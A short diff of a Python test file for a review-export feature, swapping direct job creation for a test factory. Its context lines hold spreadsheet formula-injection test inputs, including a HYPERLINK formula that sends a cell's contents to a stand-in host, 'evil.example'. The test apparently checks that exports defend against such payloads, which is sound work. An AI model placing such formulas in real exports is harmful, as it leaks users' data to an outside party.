@@ -13,13 +13,14 @@ from agreements.registrations import services as registrations
 from reviews.exporting import COLUMNS
 from reviews.models import ExportJob
 from reviews.tasks import export_now
+from tests import factories as f
 
 LEAK = '=HYPERLINK("http://evil.example/?leak="&A2,"点击")'
 DANGEROUS = [LEAK, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=1+1"]
 
 
 def _export(user, fmt) -> bytes:
-    job = ExportJob.objects.create(user=user, fmt=fmt)
+    job = f.make_export(user, fmt=fmt)
     export_now(job.pk)
     job.refresh_from_db()
     assert job.status == ExportJob.Status.DONE
